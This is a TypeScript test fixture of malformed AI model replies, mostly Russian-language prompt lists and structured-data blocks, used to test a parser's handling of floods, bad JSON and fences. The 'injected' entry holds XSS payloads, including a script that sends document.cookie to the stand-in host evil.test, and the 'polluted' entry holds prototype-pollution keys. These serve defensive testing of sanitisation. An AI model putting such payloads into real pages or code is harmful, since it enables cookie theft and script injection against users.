import { ASSIST_ODD_REPLIES } from "./ai-assist";

const TEXT = "Напиши короткое письмо клиенту о переносе встречи.";
const ROWS = JSON.stringify({
  documentType: "excel",
  title: "Цены",
  headers: ["Товар", "Цена"],
  data: [["Чай", 120], { Товар: "Кофе", Цена: 340 }],
});

const block = (inside: string) => `Готово.\n\n<structured_data>\n${inside}\n</structured_data>`;

/** Malformed replies of a model. */
export const AI_REPLIES = {
  ...ASSIST_ODD_REPLIES,
  blank: "   \n ",
  refusal: "I cannot help with that request.",
  prose: "Вот что я нашёл в документе: несколько хороших промптов {о письмах} и [прочем].",
  noPrompts: '{"prompts": []}',
  /** Far too much of everything, and things that pollute prototypes. */
  flood: JSON.stringify({
    prompts: Array.from({ length: 10_000 }, (_, at) => ({
      ...(at < 9 && {
        title: "Очень длинное название ".repeat(450),
        shortDescription: "описание ".repeat(500),
        category: "Шпионаж",
      }),
      ...(at < 9 && {
        tags: at % 3 === 0 ? "a, b, c, d, e, f, g" : at % 3 === 1 ? '["a","b","c","d","e","f"]' : 7,
      }),
      promptText: `${TEXT} Вариант ${at}.`,
    })),
  }),
  polluted: `{"prompts": [{"__proto__": {"polluted": true}, "title": "Письмо", "promptText": "${TEXT}", "constructor": {"prototype": {"polluted": true}}}, "строка", null, 5, {"title": "Без текста"}, {"title": "Повтор", "promptText": "${TEXT.toUpperCase()}"}]}`,
  /** What a document that gives orders might get out of a model. */
  injected: JSON.stringify({
    prompts: [
      {
        title: "<img src=x onerror=alert(1)>",
        promptText: "<script>fetch('//evil.test?'+document.cookie)</script> и ещё текст",
        category: "<b>HR</b>",
        tags: ["<i>tag</i>"],
      },
    ],
  }),
  fenced: block(`\`\`\`json\n${ROWS}\n\`\`\``),
  fencedOutside: `Готово.\n\n\`\`\`\n<structured_data>${ROWS}</structured_data>\n\`\`\``,
  twoBlocks: `${block(ROWS)}\n\nИ ещё:\n\n${block('{"documentType": "word", "title": "Второй", "content": "Текст"}')}`,
  nestedFences: block(
    `\`\`\`json\n${JSON.stringify({ documentType: "word", title: "Код", content: "```js\nlet a;\n```" })}\n\`\`\``,
  ),
  trailingComma: block('{"documentType": "excel", "headers": ["А"], "data": [[1],]}'),
  longRows: block('{"documentType": "excel", "headers": ["А"], "data": [[1, 2, 3], [4]]}'),
  manyRows: block(`{"documentType": "excel", "headers": ["А"], "data": [${"[1],".repeat(400_000)}[1]]}`),
  manyColumns: block(
    JSON.stringify({
      documentType: "excel",
      headers: Array.from({ length: 120 }, (_, at) => `К${at}`),
      data: [Array.from({ length: 120 }, (_, at) => at)],
    }),
  ),
  notData: block("тут должна быть таблица"),
} as const;
